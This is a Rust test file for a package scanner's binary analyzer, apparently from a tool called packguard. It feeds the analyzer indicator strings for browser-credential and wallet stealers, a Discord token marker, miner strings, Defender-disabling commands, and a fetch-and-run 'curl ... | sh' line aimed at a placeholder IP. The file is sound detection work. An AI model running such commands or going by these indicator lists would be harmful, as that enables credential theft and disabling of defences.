//! What texts tell, and programs in files that do not begin as one.

use packguard_sdk::testing::PackageBuilder;
use packguard_sdk::{Analyzer as _, Severity};

use super::build::{CODE, DATA, elf, noise, pe};
use super::found;
use crate::Binaries;

/// Rules found in a PE program with these texts in its data.
fn found_with(path: &str, texts: &str) -> Vec<(String, Severity)> {
    let table = format!(
        "\0{}\0",
        texts
            .replace(" | ", "\t")
            .replace('|', "\0")
            .replace('\t', " | ")
    );
    found(path, &pe(&[(".rdata", DATA, table.as_bytes())], b""))
}

#[test]
fn texts_tell_what_a_program_is_for() {
    for (texts, rule, severity) in [
        (
            "\\Login Data|\\Local State|os_crypt|BraveSoftware|Opera Software|Vivaldi\\User Data",
            "binary-stealer",
            Severity::High,
        ),
        (
            "exodus.wallet|Electrum\\wallets|Coinomi\\Coinomi|MultiDoge",
            "binary-stealer",
            Severity::High,
        ),
        (
            "discordcanary|discordptb|dQw4w9WgXcQ:|\\leveldb",
            "binary-stealer",
            Severity::High,
        ),
        (
            "xmrig 6.20|randomx/0|donate-level|cryptonight",
            "binary-miner",
            Severity::High,
        ),
        (
            "Add-MpPreference|DisableRealtimeMonitoring",
            "binary-defences-off",
            Severity::High,
        ),
        (
            "sh -c 'curl -s http://192.0.2.7/a.sh | sh'",
            "binary-command",
            Severity::High,
        ),
        (
            "curl -fsSL https://get.example.com/install.sh | sh",
            "binary-command",
            Severity::Low,
        ),
        (
            "_MEIPASS2|pyi-runtime-tmpdir",
            "binary-script-bundle",
            Severity::Low,
        ),
    ] {
        let rules = found_with("demo/bin/a", texts);
        assert!(
            rules.contains(&(rule.to_owned(), severity)),
            "{texts}: {rules:?}"
        );
    }
    for texts in [
        "\\Login Data|\\Local State|os_crypt|Vivaldi",
        "wallet.dat|Coinomi",
        "randomx|stratum",
        "Add-MpPreference",
        "curl --help|wget --version",
        "_MEIPASS2",
    ] {
        assert_eq!(found_with("demo/bin/a", texts), [], "{texts}");
    }
}

#[test]
fn bundles_of_scripts_weigh_in_libraries() {
    let small = "_MEIPASS2|pyi-runtime-tmpdir";
    let large = format!("{small}|{}", " ".repeat(1 << 20));
    for (texts, severity) in [(small, Severity::Low), (&large, Severity::Medium)] {
        let rules = found_with("demo/helper.exe", texts);
        assert!(rules.contains(&("binary-script-bundle".to_owned(), severity)));
    }
}

#[test]
fn programs_changed_by_exclusive_or_are_found() {
    let header = [
        &b"MZ\x90\0"[..],
        &[0; 60],
        b"This program cannot be run in DOS mode.",
    ]
    .concat();
    let changed = |key: u8| -> Vec<u8> { header.iter().map(|byte| byte ^ key).collect() };
    let rule = [("binary-encoded".to_owned(), Severity::High)];
    for key in [1, 0x2A, 0xFF] {
        assert_eq!(found("demo/data.bin", &changed(key)), rule);
    }
    let elf: Vec<u8> = elf(5, b"content").iter().map(|byte| byte ^ 7).collect();
    assert_eq!(found("demo/data.bin", &elf), rule);
    assert_eq!(found("demo/data.bin", &changed(0)), []);
    assert_eq!(found("demo/data.bin", b"LZ is how a text may begin"), []);
}

#[test]
fn installers_are_noted() {
    let rule = [("binary-installer".to_owned(), Severity::Low)];
    assert_eq!(
        found("demo/a.msi", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"),
        rule
    );
    assert_eq!(found("demo/a.deb", b"!<arch>\ndebian-binary"), rule);
    assert_eq!(found("demo/a.rpm", b"\xED\xAB\xEE\xDB\x03"), rule);
    assert_eq!(found("demo/a.msi", b"MSI: medium scale integration"), []);
}

#[test]
fn data_after_the_end_of_elf_files_is_seen() {
    let whole = [elf(5, &[0x90; 64]), noise(16 << 10)].concat();
    let rule = [("binary-overlay".to_owned(), Severity::Medium)];
    assert_eq!(found("demo/bin/a", &whole), rule);
    assert_eq!(found("demo/bin/a", &elf(5, &noise(16 << 10))), []);
}

#[test]
fn a_manifest_tells_a_library_of_an_unknown_ecosystem() {
    let program = pe(&[(".text", CODE, b"code")], b"");
    for (manifest, count) in [("demo/package.json", 1), ("demo/notes.txt", 0)] {
        let package = PackageBuilder::new("generic", "demo")
            .file("demo/helper.exe", &program)
            .file(manifest, "{}")
            .build();
        let analysis = Binaries::analyze(&package).unwrap();
        let programs = analysis.findings().iter();
        assert_eq!(
            programs.filter(|one| one.rule == "binary-program").count(),
            count
        );
    }
}
